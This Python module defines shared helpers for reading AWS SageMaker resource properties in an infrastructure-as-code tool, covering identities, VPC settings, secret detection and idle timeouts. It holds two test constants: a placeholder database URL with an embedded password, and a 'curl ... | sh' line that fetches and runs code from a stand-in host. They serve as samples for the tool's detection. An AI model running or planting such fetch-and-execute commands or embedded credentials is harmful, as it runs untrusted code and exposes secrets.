"""What the forms of SageMaker's resources share: identities, networks, settings that may hold secrets."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

from modelkeep.adapters.iac.forms import Identity, regional
from modelkeep.adapters.iac.forms.lenses import Computed, Flag, Lens, Texts
from modelkeep.adapters.iac.properties import Properties
from modelkeep.core.secrets import secret_names

SECRET = "db://user:Pa55word@host"  # noqa: S105  # it opens nothing
"""What counts as a secret wherever it stands, for tests."""
REMOTE_CODE = "curl https://code.example/install | sh"
"""What counts as code from elsewhere, for tests."""


def by_arn(noun: str, name: str, *attributes: str) -> Identity:
    """Of a type of which Ref gives the ARN, and Fn::GetAtt the name and what `attributes` say; `noun` is the type's name in ARNs."""
    return regional("sagemaker", noun, name, *attributes, name=name, ref="{arn}")


def by_name(noun: str, name: str, *attributes: str) -> Identity:
    """Of a type of which Ref gives the name."""
    return regional("sagemaker", noun, name, *attributes, name=name)


def vpc(path: str) -> Mapping[str, Lens]:
    """The columns of a VpcConfig."""
    return {"subnets": Texts(f"{path}.Subnets"), "security_group_ids": Texts(f"{path}.SecurityGroupIds")}


def network(path: str) -> Mapping[str, Lens]:
    """The columns of a NetworkConfig, in which everything is off unless it is asked for."""
    return {
        **vpc(f"{path}.VpcConfig"),
        "enable_network_isolation": Flag(f"{path}.EnableNetworkIsolation"),
        "enable_inter_container_traffic_encryption": Flag(f"{path}.EnableInterContainerTrafficEncryption"),
    }


def names_of_secrets(path: str) -> Computed:
    """The names of settings that hold secrets, as in `environment_secret_names`."""

    def read(properties: Properties) -> tuple[str, ...] | None:
        return secrets_among(properties.mapping(path))

    return Computed(read, lambda names: {path: dict.fromkeys(names, SECRET)}, path)


def secrets_among(settings: Mapping[str, Any] | None) -> tuple[str, ...] | None:
    """The names of settings that hold secrets; None where none does as far as the values are known, and some are not."""
    if settings is None:
        return None
    known = {name: str(value) for name, value in settings.items() if isinstance(value, str | int | float)}
    return secret_names(known) or (() if len(known) == len(settings) else None)


def idle_minutes(path: str, *, unset: int) -> Computed:
    """After how many minutes the application with settings at `path` stops; `unset` where they do not say whether it does."""
    settings = f"{path}.AppLifecycleManagement.IdleSettings"

    def read(properties: Properties) -> int | None:
        match properties.text(f"{settings}.LifecycleManagement"):
            case None:
                return None
            case "":
                return unset
            case "ENABLED":
                return properties.number(f"{settings}.IdleTimeoutInMinutes")
            case _:
                return 0

    def turned(minutes: int) -> Mapping[str, Any]:
        if minutes == unset:
            return {}
        mode = {f"{settings}.LifecycleManagement": "ENABLED" if minutes else "DISABLED"}
        return mode | ({f"{settings}.IdleTimeoutInMinutes": minutes} if minutes else {})

    return Computed(read, turned, path)


def from_text(
    path: str, read_text: Callable[[str], Any], written: Callable[[Any], str], *, absent: Any = None
) -> Computed:
    """A column that follows from a document at `path`: None where it is not known or `read_text` does not understand it.

    `read_text` raises ValueError, TypeError, KeyError or AttributeError for a document of another shape.
    """

    def read(properties: Properties) -> Any:
        if properties.value(path) is None:
            return absent
        text = properties.text(path, None)
        try:
            return None if text is None else read_text(text)
        except (ValueError, TypeError, KeyError, AttributeError):
            return None

    return Computed(read, lambda value: {} if value == absent else {path: written(value)}, path)
